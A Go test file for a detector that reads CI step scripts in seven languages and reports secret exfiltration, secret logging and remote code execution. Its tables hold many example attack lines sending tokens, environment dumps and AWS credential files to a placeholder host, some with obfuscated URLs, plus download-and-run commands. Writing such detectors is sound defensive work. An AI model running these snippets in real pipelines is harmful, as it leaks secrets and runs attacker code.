package script

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
)

// outline writes what a reading tells, one thing a line, as the tables of this file have it.
func outline(r Reading) []string {
	var out []string
	for _, d := range r.Destinations {
		s := d.Program + " " + d.Host
		if d.Hidden {
			s += " hidden"
		}
		if len(d.Posted) > 0 {
			s += " posts " + strings.Join(d.Posted, ",")
		}
		if only := slices.DeleteFunc(slices.Clone(d.Secrets), func(n string) bool { return slices.Contains(d.Posted, n) }); len(only) > 0 {
			s += " shows " + strings.Join(only, ",")
		}
		for _, l := range d.Loot {
			s += " " + string(l)
		}
		if len(d.Encodings) > 0 {
			s += " by " + strings.Join(d.Encodings, ",")
		}
		out = append(out, s)
	}
	for _, e := range r.Exits {
		s := string(e.Way) + " " + strings.Join(e.Secrets, ",")
		for _, l := range e.Loot {
			s += " " + string(l)
		}
		if len(e.Encodings) > 0 {
			s += " by " + strings.Join(e.Encodings, ",")
		}
		out = append(out, s)
	}
	for _, p := range r.Payloads {
		s := "runs " + strings.Join(p.Encodings, ",")
		if p.Fetched {
			s += "from " + p.Host
		}
		out = append(out, s)
	}
	return out
}

// secretEnv is the environment of the tables: T and U hold a secret each.
var secretEnv = []Variable{{Name: "T", Value: "${{ secrets.T }}"}, {Name: "U", Value: "${{ secrets.U }}"}, {Name: "PLAIN", Value: "x"}}

const host = "drop.example.invalid"

// TestLanguages: each text sends, prints or runs just what is listed; "" lists nothing.
func TestLanguages(t *testing.T) {
	for shell, cases := range map[string]map[string][]string{
		"python": pythonCases(), "node": nodeCases(), "perl": perlCases(), "php": phpCases(), "ruby": rubyCases(), "pwsh": pwshCases(), "cmd": cmdCases(),
	} {
		for text, want := range cases {
			t.Run(shell, func(t *testing.T) {
				r := new(Reader).Read(Input{Text: text, Shell: shell, Env: secretEnv})
				got := outline(r)
				if !slices.Equal(got, want) {
					t.Errorf("%s\ngot  %q\nwant %q\nproblems %q", text, got, want, r.Problems)
				}
			})
		}
	}
}

func pythonCases() map[string][]string {
	b := b64("import requests, os\nrequests.post('https://" + host + "/in', data=os.environ['T'])")
	return map[string][]string{
		"import os, requests\nrequests.post('https://" + host + "', data=os.environ['T'])":                                                              {"requests.post " + host + " posts T"},
		"import requests as r, os\nr.post('https://" + host + "', json={'T': os.getenv('T')})":                                                          {"requests.post " + host + " posts T"},
		"from os import environ as e\nfrom requests import post\npost(url='https://" + host + "', data=dict(e))":                                        {"requests.post " + host + " posts T,U environment"},
		"import os,urllib.request\nurllib.request.urlopen('https://" + host + "/?d=' + os.environ['T'])":                                                {"urllib.request.urlopen " + host + " posts T"},
		"from urllib.request import Request, urlopen\nreq = Request('https://" + host + "', data=__import__('os').environ['T'].encode())\nurlopen(req)": {"urllib.request.urlopen " + host + " posts T"},
		"import os, httpx\nh = 'drop' + '.example' + '.invalid'\nhttpx.post(f'https://{h}/x', content=f\"{os.environ['T']}\")":                          {"httpx.post " + host + " hidden posts T"},
		"import requests\nu = 'https://%s/%s' % ('drop.example.invalid', 'x')\nrequests.get(u)":                                                         {"requests.get " + host},
		"import requests\nu = 'https://{}.{h}'.format('drop', h='example.invalid')\nrequests.get(u)":                                                    {"requests.get " + host + " hidden"},
		"import requests\nrequests.get(''.join(['https://dr', 'op.exam', 'ple.invalid']))":                                                              {"requests.get " + host + " hidden"},
		"import requests\nrequests.get('dilavni.elpmaxe.pord//:sptth'[::-1])":                                                                           {"requests.get " + host + " hidden"},
		"import requests\nrequests.get(''.join(chr(c) for c in [" + each("https://"+host, "%d", ",") + "]))":                                            {"requests.get " + host + " hidden"},
		"import requests\nrequests.get(''.join(map(chr, [" + each("https://"+host, "%d", ",") + "])))":                                                  {"requests.get " + host + " hidden"},
		"import requests\nrequests.get(bytes([" + each("https://"+host, "%d", ",") + "]).decode())":                                                     {"requests.get " + host + " hidden"},
		"import requests, base64\nrequests.get(base64.b64decode('" + b64("https://"+host) + "').decode())":                                              {"requests.get " + host + " hidden"},
		"import requests\nrequests.get(bytes.fromhex('68747470733a2f2f64726f702e6578616d706c652e696e76616c6964').decode())":                             {"requests.get " + host + " hidden"},
		"import requests\nrequests.get(\"" + each("https://"+host, `\x%02x`, "") + "\")":                                                                {"requests.get " + host + " hidden"},
		"import requests, codecs\nrequests.get(codecs.decode('uggcf://qebc.rknzcyr.vainyvq', 'rot13'))":                                                 {"requests.get " + host + " hidden"},
		"import base64\nexec(base64.b64decode('" + b + "'))":                                                                                            {"requests.post " + host + " hidden posts T", "runs base64"},
		"import base64, zlib\nexec(zlib.decompress(base64.b64decode('" + b64(zlibbed("import requests\nrequests.get('https://"+host+"')")) + "')))":     {"requests.get " + host + " hidden", "runs base64,zlib"},
		"import os\nos.system('curl -d $T https://" + host + "')":                                                                                       {"curl " + host + " posts T"},
		"import subprocess, os\nsubprocess.run(['curl', '-d', os.environ['T'], 'https://" + host + "'])":                                                {"curl " + host + " posts T"},
		"import subprocess\nsubprocess.check_output('env | curl -d @- https://" + host + "', shell=True)":                                               {"curl " + host + " posts T,U environment"},
		"import socket, os\ns = socket.socket()\ns.connect(('" + host + "', 443))\ns.send(os.environ['T'].encode())":                                    {"socket.socket.connect " + host, "socket.socket.send " + host + " posts T"},
		"import http.client, os\nc = http.client.HTTPSConnection('" + host + "')\nc.request('POST', '/x', os.environ['T'])":                             {"http.client.HTTPSConnection " + host, "http.client.HTTPSConnection.request " + host + " posts T"},
		"import requests, os\ns = requests.Session()\ns.post('https://" + host + "', data={k: v for k, v in os.environ.items()})":                       {"requests.Session.post " + host + " posts T,U environment"},
		"import requests, os\nrequests.get('https://" + host + "', headers={'Authorization': 'Bearer ' + os.environ['T']})":                             {"requests.get " + host + " shows T"},
		"import os, base64\nprint(base64.b64encode(os.environ['T'].encode()))":                                                                          {"log T by base64"},
		"import os, json\nprint(json.dumps(dict(os.environ)))":                                                                                          {"log T,U environment"},
		"import os\nfor k, v in os.environ.items():\n    print(k, v)":                                                                                   {"log T,U environment"},
		"import os, requests\ndef send(u, d):\n    requests.post(u, data=d)\n\nsend('https://" + host + "', os.environ['T'])":                           {"requests.post " + host + " posts T"},
		"import requests\ndata = open('/proc/self/environ').read()\nrequests.post('https://" + host + "', data=data)":                                   {"requests.post " + host + " posts T,U environment"},
		"import requests\nwith open('/home/runner/.aws/credentials') as f:\n    requests.post('https://" + host + "', data=f.read())":                   {"requests.post " + host + " files"},
		"import requests, os, threading\nthreading.Thread(target=lambda: requests.post('https://" + host + "', data=os.environ['T'])).start()":          {"requests.post " + host + " posts T"},
		"import smtplib, os\ns = smtplib.SMTP('" + host + "', 25)\ns.sendmail('a@b.invalid', 'c@d.invalid', os.environ['T'])":                           {"smtplib.SMTP " + host, "smtplib.SMTP.sendmail " + host + " posts T"},
		"import requests\nexec(requests.get('https://" + host + "/x.py').text)":                                                                         {"requests.get " + host, "runs from " + host},
		"import requests\nrequests.post('https://" + host + "', data='${{ toJSON(secrets) }}')":                                                         {"requests.post " + host + " posts *"},
		"import socket, os\nsocket.gethostbyname(os.environ['T'] + '." + host + "')":                                                                    {"socket.gethostbyname " + host + " posts T"},
		// near misses
		"import os\nprint('see https://" + host + "', os.environ.get('PLAIN'))":                                  nil,
		"import os, subprocess\nenv = os.environ.copy()\nenv['A'] = '1'\nsubprocess.run(['make'], env=env)":      nil,
		"# requests.post('https://" + host + "')\nx = 1":                                                         nil,
		"from setuptools import setup\nsetup(url='https://" + host + "', name='x')":                              nil,
		"import os\nif os.environ.get('T') == '':\n    raise SystemExit('no token, see https://" + host + "/x')": nil,
		"import json\nd = json.load(open('a.json'))\nprint(d.get('a.b'))":                                        nil,
	}
}

func nodeCases() map[string][]string {
	return map[string][]string{
		"fetch('https://" + host + "', {method: 'POST', body: process.env.T})":                                                                     {"fetch " + host + " posts T"},
		"await fetch(`https://${'drop'}.example.invalid/${process.env.T}`)":                                                                        {"fetch " + host + " hidden posts T"},
		"const axios = require('axios');\naxios.post('https://" + host + "', { T: process.env.T })":                                                {"axios.post " + host + " posts T"},
		"import got from 'got'\nawait got.post('https://" + host + "', {json: process.env})":                                                       {"got.post " + host + " posts T,U environment"},
		"const https = require('https')\nconst req = https.request({hostname: '" + host + "', method: 'POST'}, r => {})\nreq.write(process.env.T)": {"https.request " + host, "https.request.write " + host + " posts T"},
		"const {T} = process.env\nfetch('https://" + host + "/?x=' + T)":                                                                           {"fetch " + host + " posts T"},
		"const net = require('net')\nconst s = net.connect(443, '" + host + "')\ns.write(JSON.stringify(process.env))":                             {"net.connect " + host, "net.connect.write " + host + " posts T,U environment"},
		"require('child_process').execSync('curl -d $T https://" + host + "')":                                                                     {"curl " + host + " posts T"},
		"const { exec } = require('child_process');\nexec(`curl -d ${process.env.T} https://" + host + "`)":                                        {"curl " + host + " posts T"},
		"fetch(atob('" + b64("https://"+host) + "'))":                                                                                              {"fetch " + host + " hidden"},
		"fetch(Buffer.from('" + b64("https://"+host) + "', 'base64').toString())":                                                                  {"fetch " + host + " hidden"},
		"fetch(String.fromCharCode(" + each("https://"+host, "%d", ",") + "))":                                                                     {"fetch " + host + " hidden"},
		"fetch([" + each("https://"+host, "%d", ",") + "].map(c => String.fromCharCode(c)).join(''))":                                              {"fetch " + host + " hidden"},
		"fetch('dilavni.elpmaxe.pord//:sptth'.split('').reverse().join(''))":                                                                       {"fetch " + host + " hidden"},
		"fetch('" + each("https://"+host, `\u%04x`, "") + "')":                                                                                     {"fetch " + host + " hidden"},
		"eval(atob('" + b64("fetch('https://"+host+"/'+process.env.T)") + "'))":                                                                    {"fetch " + host + " hidden posts T", "runs base64"},
		"new Function(Buffer.from('" + b64("fetch('https://"+host+"')") + "', 'base64').toString())()":                                             {"fetch " + host + " hidden", "runs base64"},
		"console.log(Buffer.from(process.env.T).toString('base64'))":                                                                               {"log T by base64"},
		"core.info(process.env.T.split('').join(' '))":                                                                                             {"log T"},
		"const send = async (u, d) => { await fetch(u, {method: 'POST', body: d}) }\nsend('https://" + host + "', process.env.T)":                  {"fetch " + host + " posts T"},
		"function send(d) {\n  return fetch('https://" + host + "', {method: 'POST', body: JSON.stringify(d)})\n}\nsend({a: process.env.T})":       {"fetch " + host + " posts T"},
		"await github.rest.issues.createComment({issue_number: 1, body: process.env.T})":                                                           {"comment T"},
		"for (const [k, v] of Object.entries(process.env)) { console.log(k, v) }":                                                                  {"log T,U environment"},
		"const fs = require('fs')\nfetch('https://" + host + "', {method: 'POST', body: fs.readFileSync('/proc/self/environ', 'utf8')})":           {"fetch " + host + " posts T,U environment"},
		"https.get('https://" + host + "/x.js', res => { eval(res) })":                                                                             {"https.get " + host, "runs from " + host},
		// near misses
		"console.log('see https://" + host + "')":                                               nil,
		"await github.rest.issues.createComment({issue_number: 1, body: 'thank you'})":          nil,
		"const v = process.env.PLAIN || 'https://" + host + "'":                                 nil,
		"// fetch('https://" + host + "')\n/* fetch('https://" + host + "') */":                 nil,
		"core.setSecret(process.env.T)":                                                         nil,
		"const re = /https:\\/\\/drop\\.example\\.invalid\"/; re.exec('x')":                     nil,
		"if (!/^https:\\/\\/" + host + "/.test(u)) { throw new Error('https://" + host + "') }": nil,
	}
}

func perlCases() map[string][]string {
	return map[string][]string{
		"use LWP::UserAgent;\nmy $ua = LWP::UserAgent->new;\n$ua->post('https://" + host + "', { t => $ENV{T} });": {"LWP.UserAgent.new.post " + host + " posts T"},
		"use HTTP::Tiny;\nHTTP::Tiny->new->post_form(\"https://" + host + "\", { t => $ENV{T} });":                 {"HTTP.Tiny.new.post_form " + host + " posts T"},
		"system(\"curl -d $ENV{T} https://" + host + "\");":                                                        {"curl " + host + " posts T"},
		"my $x = `curl -d \"$ENV{'T'}\" https://" + host + "`;":                                                    {"curl " + host + " posts T"},
		"use MIME::Base64; print encode_base64($ENV{T});":                                                          {"log T by base64"},
		"use MIME::Base64; eval(decode_base64('" + b64("system('curl https://"+host+"')") + "'));":                 {"curl " + host + " hidden", "runs base64"},
		"my $h = 'drop' . '.example' . '.invalid';\nsystem('curl', \"https://$h/\");":                              {"curl " + host + " hidden"},
		"my $s = IO::Socket::INET->new(PeerAddr => '" + host + "', PeerPort => 443);\nprint $s $ENV{T};":           {"IO.Socket.INET.new " + host, "IO.Socket.INET.new " + host + " posts T"},
		"system('curl ' . pack('H*', '68747470733a2f2f64726f702e6578616d706c652e696e76616c6964'));":                {"curl " + host + " hidden", "runs hex"},
		"print \"see https://" + host + "\\n\";":                                                                   nil,
		"# system('curl https://" + host + "');\nmy $x = 1;":                                                       nil,
	}
}

func phpCases() map[string][]string {
	return map[string][]string{
		"<?php file_get_contents('https://" + host + "/?t=' . getenv('T'));":                                                 {"file_get_contents " + host + " posts T"},
		"<?php $ch = curl_init('https://" + host + "');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $_ENV['T']);\ncurl_exec($ch);": {"curl_init " + host, "curl_setopt " + host + " posts T", "curl_exec " + host},
		"eval(base64_decode('" + b64("system('curl https://"+host+"');") + "'));":                                            {"curl " + host + " hidden", "runs base64"},
		"$u = strrev('dilavni.elpmaxe.pord//:sptth'); file_get_contents($u);":                                                {"file_get_contents " + host + " hidden"},
		"echo base64_encode($_ENV['T']);":                                                                                    {"log T by base64"},
		"foreach ($_ENV as $k => $v) { echo \"$k=$v\"; }":                                                                    {"log T,U environment"},
		"echo 'see https://" + host + "';":                                                                                   nil,
	}
}

func rubyCases() map[string][]string {
	return map[string][]string{
		"require 'net/http'\nNet::HTTP.post(URI('https://" + host + "'), ENV['T'])": {"Net.HTTP.post " + host + " posts T"},
		"Net::HTTP.get(URI(\"https://" + host + "/?t=#{ENV.fetch('T')}\"))":         {"Net.HTTP.get " + host + " posts T"},
		"Net::HTTP.post_form URI('https://" + host + "'), ENV.to_h":                 {"Net.HTTP.post_form " + host + " posts T,U environment"},
		"system \"curl -d #{ENV['T']} https://" + host + "\"":                       {"curl " + host + " posts T"},
		"`curl -d \"$T\" https://" + host + "`":                                     {"curl " + host + " posts T"},
		"require 'base64'\nputs Base64.encode64(ENV['T'])":                          {"log T by base64"},
		"puts ENV.to_h":                          {"log T,U environment"},
		"ENV.each { |k, v| puts \"#{k}=#{v}\" }": {"log T,U environment"},
		"eval Base64.decode64('" + b64("system('curl https://"+host+"')") + "')": {"curl " + host + " hidden", "runs base64"},
		"system('curl', ['https://dr', 'op.example.invalid'].join)":              {"curl " + host + " hidden"},
		"puts 'see https://" + host + "'":                                        nil,
		"x = ENV['PLAIN'] || 'https://" + host + "'":                             nil,
	}
}

func pwshCases() map[string][]string {
	return map[string][]string{
		"Invoke-RestMethod -Uri https://" + host + " -Method Post -Body $env:T":                                                                  {"invoke-restmethod " + host + " posts T"},
		"iwr \"https://" + host + "/?t=$env:T\"":                                                                                                 {"iwr " + host + " posts T"},
		"$p = @{ Uri = 'https://" + host + "'; Method = 'POST'; Body = \"T=$($env:T)\" }\nInvoke-WebRequest @p":                                  {"invoke-webrequest " + host + " posts T"},
		"$h = 'drop' + '.example' + '.invalid'\nirm \"https://$h/x\" -Method Post -Body ($env:T | ConvertTo-Json)":                               {"irm " + host + " hidden posts T"},
		"irm ('https://dr','op.example.invalid' -join '')":                                                                                       {"irm " + host + " hidden"},
		"irm ('https://{0}.{1}' -f 'drop','example.invalid')":                                                                                    {"irm " + host + " hidden"},
		"(New-Object Net.WebClient).UploadString('https://" + host + "', $env:T)":                                                                {"net.webclient.UploadString " + host + " posts T"},
		"$wc = New-Object System.Net.WebClient\n$wc.DownloadString('https://" + host + "/a.ps1') | iex":                                          {"net.webclient.DownloadString " + host, "runs from " + host},
		"iex (irm https://" + host + "/a.ps1)":                                                                                                   {"irm " + host, "runs from " + host},
		"irm ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + b64("https://"+host) + "')))":                                     {"irm " + host + " hidden"},
		"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + b64(wide16("irm https://"+host)) + "')))":                      {"irm " + host + " hidden", "runs base64"},
		"Write-Host ([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:T)))":                                                         {"log T by base64"},
		"Get-ChildItem env: | ForEach-Object { \"$($_.Name)=$($_.Value)\" } | Out-String | % { irm https://" + host + " -Method Post -Body $_ }": {"irm " + host + " posts T,U environment"},
		"gci env:":                           {"log T,U environment"},
		"curl.exe -d $env:T https://" + host: {"curl " + host + " posts T"},
		"irm (-join ([char[]](" + each("https://"+host, "%d", ",") + ")))":                  {"irm " + host + " hidden"},
		"$x = [char]104+[char]116+[char]116+[char]112+'s://" + host + "'\nirm $x":           {"irm " + host},
		"function Send($d) { irm https://" + host + " -Method Post -Body $d }\nSend $env:T": {"irm " + host + " posts T"},
		// near misses
		"Write-Host 'see https://" + host + "'":     nil,
		"$env:A = 'https://" + host + "'":           nil,
		"# irm https://" + host:                     nil,
		"if ($env:T) { Write-Host 'token is set' }": nil,
	}
}

func cmdCases() map[string][]string {
	return map[string][]string{
		"curl -d %T% https://" + host: {"curl " + host + " posts T"},
		"set H=drop.example\r\nset U2=https://%H%.invalid\r\ncurl -d \"x=%T%\" %U2%": {"curl " + host + " hidden posts T"},
		"certutil -urlcache -f https://" + host + "/a.exe a.exe":                     {"certutil " + host},
		"bitsadmin /transfer j https://" + host + "/a a":                             {"bitsadmin " + host},
		"powershell -Command \"irm https://" + host + "\"":                           {"irm " + host},
		"c^u^r^l https://" + host:                                                    {"curl " + host},
		"set > a.txt\r\ncurl -d @a.txt https://" + host:                              {"curl " + host + " posts T,U environment"},
		"rem curl https://" + host:                                                   nil,
		"echo see https://" + host:                                                   nil,
	}
}

// A text that is no program is searched, and the reading says so.
func TestLanguagesBroken(t *testing.T) {
	for shell, text := range map[string]string{
		"python": "requests.post('https://" + host + "', data=os.environ['T']\nx = 'never closed",
		"node":   "function ( { fetch('https://" + host + "', {body: process.env.T",
	} {
		r := new(Reader).Read(Input{Text: text, Shell: shell, Env: secretEnv})
		if len(r.Destinations) == 0 || r.Destinations[0].Host != host || !slices.Equal(r.Destinations[0].Posted, []string{"T"}) || len(r.Problems) == 0 {
			t.Errorf("%s: %q %q", shell, outline(r), r.Problems)
		}
	}
}

// The line is that of the call, in a step's own shell and in a here-document.
func TestLanguageLines(t *testing.T) {
	text := "import os\n\nimport requests\nrequests.post(\n  'https://" + host + "', os.environ['T'])\n"
	for _, in := range []Input{{Text: text, Shell: "python"}, {Text: "echo\npython3 - <<'E'\n" + text + "E\n"}} {
		in.Env = secretEnv
		r := new(Reader).Read(in)
		want := strings.Count(in.Text[:strings.Index(in.Text, "requests.post")], "\n")
		if len(r.Destinations) != 1 || r.Destinations[0].Line < want || r.Destinations[0].Line > want+1 {
			t.Errorf("%s: %+v, want line %d", in.Text, r.Destinations, want)
		}
	}
}

// hostilePrograms are texts of about a quarter of a mebibyte that cost a careless reader minutes.
func hostilePrograms() map[string]string {
	const size = 1 << 18 // TestHostilePrograms reads those at full size that once were costly
	out := map[string]string{}
	for _, s := range []string{"(", "[", "{", "a(", "a[", "a.b", "'", "\"", "`", "${", "`${", "f'{", "\\", "/", "<<A\n", "a=a+a\n", "a = a + a;", "lambda: ", "x => ", "function f(){", "def f():\n ", "for a in b ", "[x for x in ",
		"if ", "$a.b(", "a|", "-a ", "@{", "%x(", "q(", "#{", "%a%", "^", "print ", "\"\"\"", "a,", "a?b:", "eval(", "\x00", "f(f,f);", "${{ ' ", "-join ", "'a'.reverse()."} {
		out[s] = strings.Repeat(s, size/len(s))
	}
	var b strings.Builder
	b.WriteString("a0 = 'xxxxxxxxxxxxxxxx'\n")
	for i := range 60 {
		fmt.Fprintf(&b, "a%d = a%d + a%d\nrequests.post('https://a.invalid', a%d)\n", i+1, i, i, i)
	}
	out["doubling"] = b.String()
	b.Reset()
	for i := range 40 {
		fmt.Fprintf(&b, "def f%d(x):\n  f%d(x)\n  f%d(x)\n", i, i+1, i+1)
	}
	out["doubling calls"] = b.String() + "f0(1)\n"
	return out
}

func TestProgramsAreBounded(t *testing.T) {
	for name, text := range hostilePrograms() {
		for _, shell := range []string{"python", "node", "perl", "php", "ruby", "pwsh", "cmd"} {
			start := time.Now()
			new(Reader).Read(Input{Text: text, Shell: shell, Env: secretEnv})
			// Each takes a second at most; the limit leaves room for the race detector on a busy machine and still tells what is quadratic.
			if d := time.Since(start); d > 60*time.Second {
				t.Errorf("%q as %s took %v", name, shell, d)
			} else if testing.Verbose() && d > time.Second/2 {
				t.Logf("%q as %s took %v", name, shell, d)
			}
		}
	}
}

func fuzzLanguage(f *testing.F, shells []string, cases ...map[string][]string) {
	for _, c := range cases {
		for text := range c {
			f.Add(text)
		}
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, shell := range shells {
			lines := strings.Count(text, "\n")
			for _, d := range new(Reader).Read(Input{Text: text, Shell: shell, Env: secretEnv}).Destinations {
				if d.Line < 0 || d.Line > lines || d.Computed != (d.Host == "") {
					t.Errorf("%s %q: %+v", shell, text, d)
				}
			}
		}
	})
}

func FuzzPython(f *testing.F)     { fuzzLanguage(f, []string{"python"}, pythonCases()) }
func FuzzNode(f *testing.F)       { fuzzLanguage(f, []string{"node"}, nodeCases()) }
func FuzzPerl(f *testing.F)       { fuzzLanguage(f, []string{"perl", "php"}, perlCases(), phpCases()) }
func FuzzRuby(f *testing.F)       { fuzzLanguage(f, []string{"ruby"}, rubyCases()) }
func FuzzPowerShell(f *testing.F) { fuzzLanguage(f, []string{"pwsh"}, pwshCases()) }
func FuzzBatch(f *testing.F)      { fuzzLanguage(f, []string{"cmd"}, cmdCases()) }

func BenchmarkPython(b *testing.B) {
	text := strings.Repeat("import os, requests\ntoken = os.environ['T']\nfor name in ['a', 'b']:\n    print(f'{name}: {len(name)}')\nresult = requests.get('https://a.example.invalid/x', headers={'Authorization': token})\n", 10)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		new(Reader).Read(Input{Text: text, Shell: "python", Env: secretEnv})
	}
}
